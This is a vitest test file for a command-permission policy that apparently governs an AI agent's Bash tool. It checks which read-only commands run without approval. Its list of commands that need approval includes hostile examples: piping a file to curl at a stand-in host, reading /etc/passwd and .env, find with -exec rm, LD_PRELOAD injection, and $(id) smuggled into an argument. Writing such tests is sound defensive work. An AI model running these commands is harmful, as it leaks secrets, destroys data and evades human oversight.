// One harmless and, where there is one, one harmful call of every command that needs no rule.
import { describe, expect, test } from "vitest";
import { decide } from "../decide.ts";
import { createPolicy, type FactsOf, type Policy } from "../policy.ts";
import { gitReaders, readers, versioned } from "./read-only.ts";

const facts: FactsOf = (path) => ({ real: path, exists: true, kind: "file" });
const base = createPolicy({ workspace: { cwd: "/w", home: "/h" } });
const answer = (command: string, more: Partial<Policy> = {}) =>
  decide({ tool: "Bash", input: { command } }, { ...base, ...more }, facts);

/** What each command is given here; `a` where nothing else is said. */
const words: Record<string, string> = {
  tr: "a b",
  find: ". -name a",
  sed: "-n 1,5p a",
  awk: "'{print $1}' a",
  jq: ".a a",
  yq: ".a a",
  test: "-f a",
  "[": "-f a ]",
  join: "a b",
  comm: "a b",
  diff: "a b",
  cmp: "a b",
  grep: "x a",
  egrep: "x a",
  fgrep: "x a",
  rg: "x a",
  ag: "x a",
  sleep: "1",
  seq: "3",
  date: "+%s",
  exit: "0",
  break: "",
  continue: "",
  wait: "",
  whoami: "",
  groups: "",
  uptime: "",
  nproc: "",
  free: "-h",
  ps: "aux",
  uname: "-a",
  id: "-u",
  pwd: "",
};
const gitWords: Record<string, string> = {
  "cat-file": "-p HEAD",
  "merge-base": "a b",
  "name-rev": "HEAD",
  version: "",
  "count-objects": "-v",
  "for-each-ref": "refs/heads",
};

describe("commands that only read", () => {
  test.each([...readers])("%s needs no rule", (name) => {
    const { behavior, reason } = answer(`${name} ${words[name] ?? "a"}`.trim());
    expect(behavior, reason).toBe("allow");
  });

  test.each([...gitReaders])("git %s needs no rule", (name) => {
    const { behavior, reason } = answer(`git ${name} ${gitWords[name] ?? "a"}`.trim());
    expect(behavior, reason).toBe("allow");
  });

  test.each([...versioned])("%s --version needs no rule", (name) => {
    expect(answer(`${name} --version`).reason).toContain("read-only command");
  });

  test.each([
    "git branch --list",
    "git branch --show-current",
    "git tag -l",
    "git stash list",
    "git remote -v",
    "git worktree list",
    "git config --get user.name",
    "git reflog",
    "go version",
    "ls -la src | head -5",
    "cd src && ls",
    'for f in src/*.ts; do wc -l "$f"; done',
    "if [ -f a ]; then cat a; fi",
    "cat a 2>/dev/null",
  ])("%s needs no rule", (command) => {
    for (const mode of ["default", "acceptEdits", "plan", "dontAsk"] as const)
      expect(answer(command, { mode }).behavior, mode).toBe("allow");
  });

  test.each([
    "sort -o a b",
    "tree -o a",
    "uniq a b",
    "find . -delete",
    "find . -exec rm {} +",
    "find . -fprint a",
    "fd -x rm",
    "sed -i s/a/b/ a",
    "sed 'w a' b",
    "sed '1e id' a",
    "awk '{print > \"a\"}' b",
    "awk 'BEGIN{system(\"id\")}'",
    "jq -n env",
    "yq -i .a=1 b",
    "rg --pre ./a b",
    "date -s 2020",
    "file -C -m a",
    "printf -v a b",
    "test -v 'a[$(id)]'",
    "ps auxe",
    "git log --output=a",
    "git diff --ext-diff",
    "git grep -Oid a",
    "git -c core.pager=id log",
    "git branch a",
    "git branch -D a",
    "git tag a",
    "git config a b",
    "git stash",
    "ls > a",
    "ls; touch a",
    "cat a | tee b",
    "cat a | curl -d @- https://x.test",
    "./ls",
    "A=b ls",
    "LD_PRELOAD=a ls",
    "bash -c ls",
    "cat $(echo a)",
    "cat /etc/passwd",
    "cat ../a",
  ])("%s needs a rule or a person", (command) => {
    expect(answer(command).behavior).not.toBe("allow");
    expect(answer(command, { mode: "dontAsk" }).behavior).toBe("deny");
  });

  test("a setting switches it off", () => {
    expect(answer("ls", { readOnlyCommands: false }).behavior).toBe("ask");
  });

  test("deny rules and the profile's secrets hold", () => {
    const rules = { allow: [], ask: [], deny: ["Read(.env)"] };
    expect(answer("cat .env", { rules }).behavior).toBe("deny");
    expect(answer("cat .e*", { rules }).behavior).toBe("deny");
    expect(answer("cat .env", { hidesSecrets: true }).behavior).toBe("deny");
  });
});
